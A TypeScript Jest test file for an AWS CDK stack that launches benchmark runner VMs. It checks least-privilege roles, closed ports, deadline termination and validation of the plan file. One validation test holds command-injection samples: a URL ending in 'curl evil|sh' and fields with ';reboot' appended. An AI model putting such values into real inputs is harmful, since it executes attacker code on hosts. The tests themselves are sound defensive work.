import { Match, Template } from 'aws-cdk-lib/assertions';
import { type FleetPlanFile, parseFleetPlan } from '../../../lib/fleet/fleet-plan-file';
import { runnerArgs, runnerBootScript } from '../../../lib/fleet/user-data';
import { FleetStack } from '../../../lib/fleet-stack';
import {
  actionsOf,
  FLEET_FIXTURE,
  nagFindings,
  type Resource,
  resourcesOf,
  roleStatements,
  testApp,
} from './helpers';

let stack: FleetStack;
let template: Template;
let nag: string[];

const userDataOf = (instanceType: string): string => {
  const instance = Object.values(resourcesOf(template, 'AWS::EC2::Instance')).find(
    (i) => i.Properties?.InstanceType === instanceType,
  );
  const body = (instance?.Properties?.UserData as { 'Fn::Base64'?: unknown } | undefined)?.['Fn::Base64'];
  // a plain string, or an Fn::Join when a token is inside
  if (typeof body === 'string') return body;
  const parts = (body as { 'Fn::Join'?: [string, unknown[]] } | undefined)?.['Fn::Join']?.[1] ?? [];
  return parts.map((p) => (typeof p === 'string' ? p : JSON.stringify(p))).join('');
};

const imageParameterOf = (instanceType: string): string => {
  const instance = Object.values(resourcesOf(template, 'AWS::EC2::Instance')).find(
    (i) => i.Properties?.InstanceType === instanceType,
  );
  const ref = (instance?.Properties?.ImageId as { Ref?: string } | undefined)?.Ref ?? '';
  return (template.toJSON().Parameters[ref] as { Default?: string } | undefined)?.Default ?? '';
};

/** The plan file as this CLI writes it: with the VMs' maximum life and the outside deadline. */
const DEADLINE = '2026-01-01T06:00:00Z';
const CURRENT: FleetPlanFile = { ...FLEET_FIXTURE, maxVmHours: 5, deadline: DEADLINE };

beforeAll(() => {
  stack = new FleetStack(testApp(), 'BenchfleetFleet', { fleet: CURRENT });
  template = Template.fromStack(stack);
  nag = nagFindings(stack);
});

describe('AWS runner fleet', () => {
  it('launches one instance per planned VM', () => {
    template.resourceCountIs('AWS::EC2::Instance', 3);
    expect(stack.instances).toHaveLength(3);
  });

  it('picks the arm64 Amazon Linux 2023 image for Graviton types and x86_64 otherwise, by SSM parameter', () => {
    expect(imageParameterOf('c7g.large')).toMatch(
      /^\/aws\/service\/ami-amazon-linux-latest\/al2023-ami-.*-arm64$/,
    );
    expect(imageParameterOf('c7a.large')).toMatch(
      /^\/aws\/service\/ami-amazon-linux-latest\/al2023-ami-.*-x86_64$/,
    );
  });

  it('terminates on instance-initiated shutdown, requires IMDSv2 for the VM alone (hop limit 1) and encrypts the root volume', () => {
    template.allResourcesProperties('AWS::EC2::Instance', {
      InstanceInitiatedShutdownBehavior: 'terminate',
      BlockDeviceMappings: [Match.objectLike({ Ebs: Match.objectLike({ Encrypted: true }) })],
    });
    template.allResourcesProperties('AWS::EC2::Instance', {
      MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
    });
  });

  it("sizes each VM's disk for its slots: a large type's containers need more than the smallest disk", () => {
    const sized = Template.fromStack(
      new FleetStack(testApp(), 'BenchfleetFleet', {
        fleet: {
          ...FLEET_FIXTURE,
          plan: [
            { instance_type: 'c7a.48xlarge', arch: 'x86_64', vm_count: 1, slots_per_vm: 192 },
            { instance_type: 'c7g.large', arch: 'arm64', vm_count: 1, slots_per_vm: 2 },
          ],
        },
      }),
    );
    const gib = (t: Template, type: string): unknown =>
      (
        Object.values(resourcesOf(t, 'AWS::EC2::Instance')).find((i) => i.Properties?.InstanceType === type)
          ?.Properties?.BlockDeviceMappings as Array<{ Ebs?: { VolumeSize?: number } }> | undefined
      )?.[0]?.Ebs?.VolumeSize;
    expect(gib(sized, 'c7a.48xlarge')).toBe(212); // about 20 GiB, and 1 a slot
    expect(gib(sized, 'c7g.large')).toBe(30); // the smallest disk
    // a plan file written by an older CLI, without slots_per_vm: the smallest disk
    expect(gib(template, 'c7a.large')).toBe(30);
  });

  it("gives each run new instances, and nothing with a fixed name a kept fleet's next run would collide with", () => {
    const next = Template.fromStack(
      new FleetStack(testApp(), 'BenchfleetFleet', {
        fleet: { ...FLEET_FIXTURE, runId: FLEET_FIXTURE.runId + 1 },
      }),
    );
    const ids = (t: Template): string[] => Object.keys(resourcesOf(t, 'AWS::EC2::Instance'));
    expect(ids(next)).toHaveLength(3);
    // A logical id shared by two runs would be an in-place update of a VM that already terminated.
    expect(ids(next).filter((id) => ids(template).includes(id))).toEqual([]);
    // Launch templates have account-wide names and no tags for the sweep: the fleet has none.
    template.resourceCountIs('AWS::EC2::LaunchTemplate', 0);
    const named = Object.entries(template.toJSON().Resources as Record<string, Resource>).filter(([, r]) =>
      Object.keys(r.Properties ?? {}).some((k) =>
        /^(LaunchTemplateName|InstanceProfileName|RoleName|GroupName)$/.test(k),
      ),
    );
    expect(named).toEqual([]);
  });

  it('puts each instance type in the availability zone the plan chose for it', () => {
    const zones = ['eu-west-1a', 'eu-west-1b', 'eu-west-1c'];
    const [graviton, amd] = FLEET_FIXTURE.plan as [FleetPlanFile['plan'][0], FleetPlanFile['plan'][0]];
    const placed = Template.fromStack(
      new FleetStack(testApp(), 'BenchfleetFleet', {
        fleet: {
          ...FLEET_FIXTURE,
          availabilityZones: zones,
          plan: [
            { ...graviton, availability_zone: 'eu-west-1c' },
            { ...amd, availability_zone: 'eu-west-1b' },
          ],
        },
      }),
    );
    const subnetZones = Object.values(resourcesOf(placed, 'AWS::EC2::Subnet')).map(
      (s) => s.Properties?.AvailabilityZone,
    );
    expect(subnetZones.sort()).toEqual(zones);
    const zoneOf = Object.values(resourcesOf(placed, 'AWS::EC2::Instance')).map((i) => [
      i.Properties?.InstanceType,
      i.Properties?.AvailabilityZone,
    ]);
    expect(zoneOf.sort()).toEqual([
      ['c7a.large', 'eu-west-1b'],
      ['c7g.large', 'eu-west-1c'],
      ['c7g.large', 'eu-west-1c'],
    ]);
  });

  it('starts the runner under systemd with the run flags, and reads the key at boot instead of carrying it', () => {
    const script = userDataOf('c7g.large');
    expect(script).toContain('dnf install -y docker');
    expect(script).toContain('systemctl enable --now docker');
    expect(script).toContain(
      `/opt/benchfleet/runner.js --api ${FLEET_FIXTURE.apiUrl} --provider aws --instance-type c7g.large --run-id ${FLEET_FIXTURE.runId} --slots auto --shutdown-on-done`,
    );
    expect(script).toContain('EnvironmentFile=/etc/benchfleet/runner.env');
    expect(script).toContain(
      `aws secretsmanager get-secret-value --secret-id '${FLEET_FIXTURE.runnerKeySecretArn}' --query SecretString --output text --region eu-west-1`,
    );
    expect(script).toContain('aws s3 cp "s3://benchfleet-runnerartifact-1a2b3c/runner/runner.js"');
    expect(script).toContain('systemctl enable --now benchfleet-runner.service');
    // a crash loop, fast or slow (5 starts in a day), powers the host off rather than idle
    // (its exit after a SIGTERM, 143, or SIGINT, 130, is a clean stop, not a failure)
    for (const line of [
      'StartLimitIntervalSec=1d',
      'StartLimitBurst=5',
      'OnFailure=poweroff.target',
      'SuccessExitStatus=130 143',
      // the OOM killer picks a benchmark's process before the runner's
      'OOMScoreAdjust=-500',
    ])
      expect(script.split('\n')).toContain(line);
    expect(script).not.toMatch(/--api-key/);
    expect(userDataOf('c7a.large')).toContain('--instance-type c7a.large');
  });

  it('opens no inbound port, uses no NAT, and allows Session Manager', () => {
    template.resourceCountIs('AWS::EC2::NatGateway', 0);
    template.resourceCountIs('AWS::EC2::SecurityGroupIngress', 0);
    for (const sg of Object.values(resourcesOf(template, 'AWS::EC2::SecurityGroup'))) {
      expect(sg.Properties?.SecurityGroupIngress).toBeUndefined();
    }
    template.hasResourceProperties('AWS::IAM::Role', {
      ManagedPolicyArns: [
        Match.objectLike({
          'Fn::Join': ['', Match.arrayWith([':iam::aws:policy/AmazonSSMManagedInstanceCore'])],
        }),
      ],
    });
  });

  it('lets the instance role read only the runner bundle and the runner key', () => {
    const roleId = Object.entries(resourcesOf(template, 'AWS::IAM::Role')).find(([, r]) =>
      JSON.stringify(r.Properties?.AssumeRolePolicyDocument).includes('ec2.amazonaws.com'),
    )?.[0] as string;
    const statements = roleStatements(template, roleId);
    expect(statements.flatMap(actionsOf).sort()).toEqual(['s3:GetObject', 'secretsmanager:GetSecretValue']);
    const secret = statements.find((s) => actionsOf(s).includes('secretsmanager:GetSecretValue'));
    expect(secret?.Resource).toBe(FLEET_FIXTURE.runnerKeySecretArn);
    const bundle = statements.find((s) => actionsOf(s).includes('s3:GetObject'));
    expect(JSON.stringify(bundle?.Resource)).toContain(
      ':s3:::benchfleet-runnerartifact-1a2b3c/runner/runner.js',
    );
  });

  it('terminates each VM still up at the deadline from outside it, one EventBridge Scheduler job per VM', () => {
    const instanceIds = Object.keys(resourcesOf(template, 'AWS::EC2::Instance'));
    const schedules = Object.values(resourcesOf(template, 'AWS::Scheduler::Schedule'));
    expect(schedules).toHaveLength(instanceIds.length);
    const targeted: string[] = [];
    for (const s of schedules) {
      expect(s.Properties).toMatchObject({
        ScheduleExpression: 'at(2026-01-01T06:00:00)',
        ScheduleExpressionTimezone: 'Etc/UTC',
        FlexibleTimeWindow: { Mode: 'OFF' },
        State: 'ENABLED',
      });
      const target = s.Properties?.Target as { Arn: unknown; Input: unknown; RetryPolicy: unknown };
      // arn:<partition>:scheduler:::aws-sdk:ec2:terminateInstances, the universal target
      expect(JSON.stringify(target.Arn)).toContain(':scheduler:::aws-sdk:ec2:terminateInstances"');
      expect(target.RetryPolicy).toEqual({ MaximumEventAgeInSeconds: 3600, MaximumRetryAttempts: 3 });
      // {"InstanceIds":["<the one instance's id>"]}: the input is joined around the instance's Ref
      const refs = JSON.stringify(target.Input).match(/"Ref":"(\w+)"/g) ?? [];
      expect(refs).toHaveLength(1);
      expect(JSON.stringify(target.Input)).toMatch(/InstanceIds/);
      targeted.push(...refs.map((r) => r.slice(7, -1)));
    }
    expect(targeted.sort()).toEqual(instanceIds.sort());
    // its role may terminate these instances and do nothing else
    const [roleId] = Object.entries(resourcesOf(template, 'AWS::IAM::Role')).find(([, r]) =>
      JSON.stringify(r.Properties?.AssumeRolePolicyDocument).includes('scheduler.amazonaws.com'),
    ) ?? [''];
    const statements = roleStatements(template, roleId);
    expect(statements.flatMap(actionsOf)).toEqual(['ec2:TerminateInstances']);
    const arns = JSON.stringify(statements[0]?.Resource);
    for (const id of instanceIds) expect(arns).toContain(`{"Ref":"${id}"}`);
    expect(arns).not.toContain('"*"');
  });

  it('adds no outside bound for a plan file an older CLI wrote, without a deadline', () => {
    const older = Template.fromStack(new FleetStack(testApp(), 'BenchfleetFleet', { fleet: FLEET_FIXTURE }));
    older.resourceCountIs('AWS::EC2::Instance', 3);
    older.resourceCountIs('AWS::Scheduler::Schedule', 0);
  });

  it('tags every instance with the project and the run id for the nuke sweep', () => {
    template.allResourcesProperties('AWS::EC2::Instance', {
      Tags: Match.arrayWith([
        { Key: 'benchfleet:project', Value: 'benchfleet' },
        { Key: 'benchfleet:run-id', Value: String(FLEET_FIXTURE.runId) },
      ]),
      PropagateTagsToVolumeOnCreation: true,
    });
    template.hasResourceProperties('AWS::EC2::VPC', {
      Tags: Match.arrayWith([{ Key: 'benchfleet:run-id', Value: String(FLEET_FIXTURE.runId) }]),
    });
  });

  it('passes cdk-nag AwsSolutions with every finding acknowledged', () => {
    expect(nag).toEqual([]);
  });
});

describe('fleet plan file', () => {
  it('accepts the AWS part of planFleet() or a whole plan', () => {
    const whole = parseFleetPlan({
      ...FLEET_FIXTURE,
      plan: { aws: FLEET_FIXTURE.plan, azure: [], slots: 'auto' },
    });
    expect(whole.plan).toHaveLength(2);
  });

  it('takes a deadline only as an ISO 8601 time in UTC', () => {
    expect(parseFleetPlan(CURRENT).deadline).toBe(DEADLINE);
    for (const bad of ['2026-01-01 06:00', '2026-01-01T06:00:00+02:00', 'tomorrow', 1767247200])
      expect(() => parseFleetPlan({ ...CURRENT, deadline: bad })).toThrow(/deadline/);
  });

  it('refuses values that would break out of the boot script', () => {
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, apiUrl: "https://x.example/'; curl evil|sh" })).toThrow(
      /apiUrl/,
    );
    expect(() =>
      parseFleetPlan({
        ...FLEET_FIXTURE,
        plan: [{ instance_type: 'c7g.large;reboot', arch: 'arm64', vm_count: 1 }],
      }),
    ).toThrow(/plan/);
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, runnerKeySecretArn: 'arn:aws:s3:::bucket' })).toThrow(
      /runnerKeySecretArn/,
    );
  });

  it('refuses a zone that is not one of the VPC zones, or is not a zone name', () => {
    const plan = [{ ...FLEET_FIXTURE.plan[0], availability_zone: 'eu-west-1c' }];
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, availabilityZones: ['eu-west-1a'], plan })).toThrow(
      /plan\.0\.availability_zone: eu-west-1c \(for c7g\.large\) is not one of availabilityZones/,
    );
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, plan })).toThrow(/availability_zone/);
    expect(() => parseFleetPlan({ ...FLEET_FIXTURE, availabilityZones: ['eu-west-1a; reboot'] })).toThrow(
      /availabilityZones/,
    );
  });

  it('builds the runner command line the runner CLI parses', () => {
    expect(runnerArgs({ fleet: FLEET_FIXTURE, instanceType: 'c7g.large' })).toEqual([
      '--api',
      FLEET_FIXTURE.apiUrl,
      '--provider',
      'aws',
      '--instance-type',
      'c7g.large',
      '--run-id',
      String(FLEET_FIXTURE.runId),
      '--slots',
      'auto',
      '--shutdown-on-done',
    ]);
    const script = runnerBootScript({ fleet: FLEET_FIXTURE, instanceType: 'c7g.large' }).join('\n');
    expect(script.startsWith('set -euo pipefail')).toBe(true);
  });
});
